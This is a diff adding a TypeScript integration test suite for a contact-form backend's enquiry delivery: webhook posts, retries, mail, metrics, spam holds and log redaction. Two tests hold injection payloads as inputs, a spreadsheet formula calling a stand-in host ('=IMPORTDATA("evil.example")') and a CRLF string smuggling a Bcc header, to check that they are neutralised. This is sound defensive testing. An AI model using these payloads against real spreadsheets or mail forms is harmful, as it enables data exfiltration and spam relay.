@@ -1,0 +1,400 @@
+import fc from 'fast-check';
+import { once } from 'node:events';
+import type { ServerResponse } from 'node:http';
+import { createServer, type AddressInfo, type Socket } from 'node:net';
+import { withoutFormulas } from '../../src/contact/enquiry/without-formulas.ts';
+import { Mailer } from '../../src/mail/mailer.ts';
+import { startMailServer, startWebhook, textOfMail, until } from '../support/receivers.ts';
+import { json, startApi, type TestApi } from '../support/start-api.ts';
+
+const enquiry = (changes: Record<string, unknown> = {}) => ({
+  firstName: 'Asha',
+  lastName: 'Rao',
+  email: 'asha@example.org',
+  phone: '+91 98765 43210',
+  subject: 'A question',
+  helpyou: 'Could you look at my report, please?',
+  ...changes,
+});
+const FAST = { DELIVERY_FIRST_RETRY_MS: '50' };
+const stops: (() => Promise<unknown>)[] = [];
+afterEach(async () => {
+  for (const stop of stops.splice(0).reverse()) await stop();
+});
+
+async function apiWith(environment: Record<string, string>): Promise<TestApi> {
+  const api = await startApi({ ...FAST, ...environment });
+  stops.push(api.stop);
+  return api;
+}
+async function webhook(answer: (response: ServerResponse, count: number) => void) {
+  const started = await startWebhook((response, _form, count) => answer(response, count));
+  stops.push(started.stop);
+  return started;
+}
+async function mailServer() {
+  const started = await startMailServer();
+  stops.push(started.stop);
+  return started;
+}
+const send = async (api: TestApi, changes?: Record<string, unknown>): Promise<string> => {
+  const response = await api.send('POST', '/api/contact', enquiry(changes));
+  expect(response.status).toBe(201);
+  return (await json(response)).reference;
+};
+const read = async (api: TestApi, reference: string) =>
+  json(api.get(`/api/admin/enquiries/${reference}`, await api.asAdmin()));
+const changeStatus = async (api: TestApi, reference: string, status: string) => {
+  const { revision } = await read(api, reference);
+  const headers = { ...(await api.asAdmin()), 'If-Match': `"${revision}"` };
+  expect((await api.send('PATCH', `/api/admin/enquiries/${reference}`, { status }, headers)).status).toBe(
+    200,
+  );
+};
+const delivered = (api: TestApi, reference: string) => async () =>
+  ((await read(api, reference)).deliveries as { state: string }[]).every(
+    ({ state }) => state === 'delivered',
+  );
+
+it('posts an enquiry to the endpoint as a form, with its reference', async () => {
+  const endpoint = await webhook((response) => response.end('ok'));
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  const reference = await send(api);
+  await until(delivered(api, reference));
+  expect(endpoint.received).toEqual([
+    {
+      idempotencyKey: reference,
+      fields: {
+        FirstName: 'Asha',
+        LastName: 'Rao',
+        Email: 'asha@example.org',
+        // An apostrophe, which spreadsheets do not show, keeps it text.
+        Phone: "'+91 98765 43210",
+        Subject: 'A question',
+        Helpyou: 'Could you look at my report, please?',
+        Timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+      },
+    },
+  ]);
+});
+
+it.each<[string, (response: ServerResponse) => void, string]>([
+  ['answers 500', (response) => response.writeHead(500).end('no'), 'status 500'],
+  ['answers 404', (response) => response.writeHead(404).end('no'), 'status 404'],
+  ['hangs up', (response) => response.destroy(), 'connection failed'],
+  [
+    'breaks off',
+    (response) => (
+      response.writeHead(200, { 'Content-Length': '100' }),
+      response.write('x'),
+      response.destroy()
+    ),
+    'connection failed',
+  ],
+  [
+    'answers 200 with an error page',
+    (response) => response.end('<html><title>Error</title>Script function not found</html>'),
+    'error page with status 200',
+  ],
+  [
+    'answers 200 with JSON that says error',
+    (response) => response.end('{"result":"error"}'),
+    'error page with status 200',
+  ],
+])('tries again when the endpoint %s, and records why', async (_name, fail, reason) => {
+  const endpoint = await webhook((response, count) => (count < 3 ? fail(response) : response.end('ok')));
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  const reference = await send(api);
+  await until(delivered(api, reference));
+  const [delivery] = (await read(api, reference)).deliveries;
+  expect(
+    delivery.attempts.map((attempt: Record<string, unknown>) => [attempt.outcome, attempt.reason]),
+  ).toEqual([
+    ['failed', reason],
+    ['failed', reason],
+    ['delivered', ''],
+  ]);
+  expect(new Set(endpoint.received.map(({ idempotencyKey }) => idempotencyKey))).toEqual(
+    new Set([reference]),
+  );
+});
+
+it('follows the redirect that spreadsheet endpoints answer with', async () => {
+  const endpoint = await webhook((response) => response.writeHead(302, { Location: '/result' }).end());
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  await until(delivered(api, await send(api)));
+  expect(endpoint.received).toHaveLength(1);
+});
+
+it('sends nothing that a spreadsheet would take for a formula', async () => {
+  const endpoint = await webhook((response) => response.end('ok'));
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  const formula = '=IMPORTDATA("evil.example")';
+  await until(
+    delivered(api, await send(api, { firstName: formula, subject: '＝1+1', helpyou: 'Hello\n@SUM(A1)' })),
+  );
+  expect(endpoint.received[0]!.fields).toMatchObject({
+    FirstName: `'${formula}`,
+    Subject: `'＝1+1`,
+    Helpyou: `Hello\n'@SUM(A1)`,
+  });
+});
+
+it('reads no more than the beginning of an answer that has no end', async () => {
+  let sent = 0;
+  const endpoint = await webhook((response) => {
+    const more = () => {
+      if (response.destroyed || sent > 50_000_000) return;
+      sent += 65_536;
+      if (response.write('x'.repeat(65_536))) setImmediate(more);
+      else response.once('drain', more);
+    };
+    more();
+  });
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  await until(delivered(api, await send(api)));
+  expect(sent).toBeLessThan(10_000_000);
+});
+
+it('gives a mail server that goes on saying a little no more than its time', async () => {
+  const sockets: Socket[] = [];
+  const trickle = createServer((socket) => {
+    sockets.push(socket);
+    socket.on('error', () => {});
+    const timer = setInterval(() => socket.write('220-still here\r\n'), 50);
+    socket.on('close', () => clearInterval(timer));
+  }).listen(0, '127.0.0.1');
+  await once(trickle, 'listening');
+  stops.push(async () => trickle.close());
+  const { port } = trickle.address() as AddressInfo;
+  const api = await apiWith({ SMTP_URL: `smtp://127.0.0.1:${port}`, ENQUIRY_MAIL_TO: 'desk@example.org' });
+  api.application.nest.get(Mailer).limitMs = 300;
+  const reference = await send(api);
+  await until(async () => (await read(api, reference)).deliveries[0].attemptCount > 0);
+  const [{ attempts }] = (await read(api, reference)).deliveries;
+  expect(attempts[0]).toMatchObject({ outcome: 'failed', reason: 'timed out' });
+  await until(() => sockets[0]!.destroyed);
+});
+
+it('delivers nothing more of what was found to be spam, until it is found not to be', async () => {
+  let fails = true;
+  const endpoint = await webhook((response) => (fails ? response.writeHead(500).end() : response.end('ok')));
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '10000000' });
+  const reference = await send(api);
+  const admin = await api.asAdmin();
+  const state = async () => (await read(api, reference)).deliveries[0].state as string;
+  const change = (status: string) => changeStatus(api, reference, status);
+  await until(async () => (await read(api, reference)).deliveries[0].attemptCount === 1);
+  await change('spam');
+  expect(await state()).toBe('held');
+  fails = false;
+  await api.database
+    .collection('enquiries')
+    .updateMany({}, { $set: { 'deliveries.0.nextAttemptAt': new Date(0) } });
+  expect(await json(api.send('POST', '/api/admin/enquiries/held/release', undefined, admin))).toEqual({
+    released: 0,
+  });
+  expect(endpoint.received).toHaveLength(1);
+  await change('new');
+  await until(delivered(api, reference));
+  expect(endpoint.received).toHaveLength(2);
+});
+
+it('mails an enquiry, with an answer going to the visitor', async () => {
+  const server = await mailServer();
+  server.state.refuse = 1;
+  const api = await apiWith({ SMTP_URL: server.url, ENQUIRY_MAIL_TO: 'desk@example.org' });
+  const reference = await send(api, { firstName: 'Ravi "R"', email: 'ravi@example.org' });
+  await until(delivered(api, reference));
+  const [mail] = server.mails;
+  expect(mail!.to).toEqual(['desk@example.org']);
+  expect(mail!.source).toMatch(/^Reply-To: .*<ravi@example.org>\r$/m);
+  expect(mail!.source).toContain(`Message-ID: <${reference}@localhost>`);
+  expect((await read(api, reference)).deliveries[0].attempts[0].reason).toBe('mail server said 451');
+});
+
+it('lets no visitor add headers to the mail', async () => {
+  const server = await mailServer();
+  const api = await apiWith({ SMTP_URL: server.url, ENQUIRY_MAIL_TO: 'desk@example.org' });
+  const injected = 'x\r\nBcc: victim@example.org\r\nX-Injected: yes';
+  const reference = await send(api, { subject: injected, firstName: injected, phone: '123456' });
+  await until(delivered(api, reference));
+  const [mail] = server.mails;
+  expect(mail!.to).toEqual(['desk@example.org']);
+  const head = mail!.source.split('\r\n\r\n', 1)[0]!;
+  expect(head).not.toMatch(/^(bcc|x-injected):/im);
+});
+
+it('delivers through both channels, each on its own', async () => {
+  const server = await mailServer();
+  const endpoint = await webhook((response, count) => response.writeHead(count < 4 ? 503 : 200).end());
+  const api = await apiWith({
+    ENQUIRY_WEBHOOK_URL: endpoint.url,
+    SMTP_URL: server.url,
+    ENQUIRY_MAIL_TO: 'd@example.org',
+  });
+  await until(delivered(api, await send(api)));
+  expect(server.mails).toHaveLength(1);
+  expect(endpoint.received).toHaveLength(4);
+});
+
+it('says how long deliveries took, and how long the oldest waits', async () => {
+  const endpoint = await webhook((response, count) => response.writeHead(count < 2 ? 500 : 200).end());
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '600000' });
+  const measured = async () => (await api.get('/metrics')).text();
+  expect(await measured()).toContain('api_enquiries_oldest_waiting_seconds 0\n');
+  const reference = await send(api);
+  await until(async () => (await read(api, reference)).deliveries[0].attemptCount === 1);
+  const received = { receivedAt: new Date(Date.now() - 400_000) };
+  await api.database.collection('enquiries').updateOne({ _id: reference as never }, { $set: received });
+  expect(Number(/^api_enquiries_oldest_waiting_seconds (.+)$/m.exec(await measured())?.[1])).toBeGreaterThan(
+    399,
+  );
+  expect(await measured()).not.toContain('api_enquiry_delivery_seconds_count');
+  await api.send('POST', `/api/admin/enquiries/${reference}/retry`, undefined, await api.asAdmin());
+  await until(delivered(api, reference));
+  const after = await measured();
+  expect(after).toContain('api_enquiries_oldest_waiting_seconds 0\n');
+  expect(after).toContain('api_enquiry_delivery_seconds_bucket{le="300",channel="webhook"} 1');
+});
+
+it('gives up after a day, shows it, and tries again when the admin says so', async () => {
+  const endpoint = await webhook((response, count) => response.writeHead(count < 2 ? 500 : 200).end());
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '600000' });
+  const reference = await send(api);
+  await until(() => endpoint.received.length === 1);
+  await until(async () => (await read(api, reference)).deliveries[0].attemptCount === 1);
+  const old = new Date(Date.now() - 25 * 3_600_000);
+  await api.database
+    .collection('enquiries')
+    .updateOne(
+      { _id: reference as never },
+      { $set: { 'deliveries.0.waitingSince': old, 'deliveries.0.nextAttemptAt': old, nextDeliveryAt: old } },
+    );
+  // The second attempt of this endpoint succeeds, so make the first of them fail by stopping it.
+  await endpoint.stop();
+  stops.splice(stops.indexOf(endpoint.stop), 1);
+  await until(async () => (await read(api, reference)).deliveries[0].state === 'dead');
+  const admin = await api.asAdmin();
+  expect(await json(api.get('/api/admin/enquiries?delivery=dead', admin))).toHaveLength(1);
+  const measured = await (await api.get('/metrics')).text();
+  expect(measured).toContain('api_enquiries_undelivered{state="dead"} 1');
+  expect(measured).toContain('api_enquiries_undelivered{state="waiting"} 0');
+  // Given up after more than the longest class: late, and counted so.
+  expect(measured).toContain('api_enquiry_delivery_seconds_bucket{le="86400",channel="webhook"} 0');
+  expect(measured).toContain('api_enquiry_delivery_seconds_count{channel="webhook"} 1');
+  const retried = await json(api.send('POST', `/api/admin/enquiries/${reference}/retry`, undefined, admin));
+  expect(retried.deliveries[0].state).toBe('waiting');
+});
+
+it('hands a suspect on only after the admin says it is none', async () => {
+  const endpoint = await webhook((response) => response.end('ok'));
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
+  const reference = await send(api, { company: 'x' });
+  const honest = await send(api, { helpyou: 'This one is honest, thank you.' });
+  await until(delivered(api, honest));
+  expect(endpoint.received).toHaveLength(1);
+  await changeStatus(api, reference, 'new');
+  await until(() => endpoint.received.length === 2);
+});
+
+it('sends each of 60 once with three instances at work, and takes over from one that died', async () => {
+  const endpoint = await webhook((response) => setTimeout(() => response.end('ok'), 5));
+  const environment = { ENQUIRY_WEBHOOK_URL: endpoint.url };
+  const api = await apiWith({ ...environment, JOBS: 'false' });
+  const references = await Promise.all(
+    Array.from({ length: 60 }, (_, n) => send(api, { helpyou: `Number ${n} of sixty` })),
+  );
+  // One is claimed by an instance that is dead since.
+  const claimed = { claimedBy: 'a dead one', leaseUntil: new Date(Date.now() + 700) };
+  await api.database.collection('enquiries').updateOne({ _id: references[0] as never }, { $set: claimed });
+  for (let n = 0; n < 3; n++) await apiWith({ ...api.environment, ...environment, JOBS: 'true' });
+  await until(
+    async () =>
+      (await api.database.collection('enquiries').countDocuments({ nextDeliveryAt: { $ne: null } })) === 0,
+    15_000,
+  );
+  const keys = endpoint.received.map(({ idempotencyKey }) => idempotencyKey);
+  expect(keys).toHaveLength(60);
+  expect(new Set(keys)).toEqual(new Set(references));
+});
+
+it('brings every character of names and messages through: database, endpoint, mail and CSV', async () => {
+  const server = await mailServer();
+  const endpoint = await webhook((response) => response.end('ok'));
+  const api = await apiWith({
+    ENQUIRY_WEBHOOK_URL: endpoint.url,
+    SMTP_URL: server.url,
+    ENQUIRY_MAIL_TO: 'd@example.org',
+  });
+  const admin = await api.asAdmin();
+
+  const printable = (text: string) =>
+    !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(text) && text.trim() === text && text !== '';
+  const name = fc
+    .string({ unit: 'grapheme', minLength: 1, maxLength: 15 })
+    .filter(printable)
+    .filter((text) => text.length <= 80);
+  const message = fc
+    .string({ unit: 'grapheme', minLength: 10, maxLength: 60 })
+    .filter(printable)
+    .filter((text) => text.length >= 10);
+  await fc.assert(
+    fc.asyncProperty(name, message, async (firstName, helpyou) => {
+      const reference = await send(api, { firstName, helpyou });
+      await until(delivered(api, reference));
+      const sent = endpoint.received.findLast(({ idempotencyKey }) => idempotencyKey === reference)!;
+      expect([sent.fields.FirstName, sent.fields.Helpyou]).toEqual([firstName, helpyou].map(withoutFormulas));
+      expect(await read(api, reference)).toMatchObject({ firstName, helpyou });
+      const csv = await (await api.get('/api/admin/enquiries/export.csv', admin)).text();
+      const row = csv.split('\r\n').find((line) => line.includes(reference))!;
+      for (const text of [firstName, helpyou].map(withoutFormulas))
+        expect(row).toContain(`${text.replaceAll('"', '""')}"`);
+      const mail = server.mails.find(({ source }) => source.includes(`<${reference}@`))!;
+      expect(textOfMail(mail.source)).toContain(`\n\n${helpyou}`);
+      expect(textOfMail(mail.source)).toContain(`Name: ${firstName} Rao`);
+    }),
+    { numRuns: 25 },
+  );
+}, 60_000);
+
+it('writes a line about every request and every failed delivery, and nothing that people sent into any of them', async () => {
+  const { spawnApi } = await import('../support/spawn-api.ts');
+  const canary = 'canary7391';
+  const running = await spawnApi({
+    LOG_LEVEL: 'trace',
+    ENQUIRY_WEBHOOK_URL: 'http://127.0.0.1:9/nobody',
+    ...FAST,
+  });
+  stops.push(running.kill);
+  const body = enquiry({
+    firstName: canary,
+    lastName: canary,
+    email: `${canary}@example.org`,
+    subject: canary,
+    helpyou: canary.repeat(3),
+  });
+  const answers = new Map<string, number>();
+  const ask = async (path: string, init?: RequestInit) => {
+    const { headers, status } = await fetch(running.url + path, init);
+    answers.set(headers.get('x-request-id')!, status);
+  };
+  const post = (path: string, sent: unknown) =>
+    ask(path, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify(sent),
+    });
+  await post('/api/contact', body);
+  await post('/api/contact', { ...body, email: canary });
+  await post('/api/admin/login', { email: `${canary}@example.org`, password: canary });
+  await post('/api/admin/password/forgot', { email: `${canary}@example.org` });
+  await ask(`/api/blog?q=${canary}`);
+  await ask(`/api/admin/enquiries?q=${canary}`);
+  expect([...answers.values()]).toEqual([201, 422, 401, 202, 200, 401]);
+  // A line is asserted to lack something only once it is there.
+  const isWritten = (text: string) => running.output().includes(text);
+  await until(() => [...answers.keys()].every(isWritten) && isWritten('an enquiry was not delivered'));
+  expect(running.output()).not.toContain(canary);
+  expect(running.output()).not.toContain('127.0.0.1:9');
+}, 60_000);
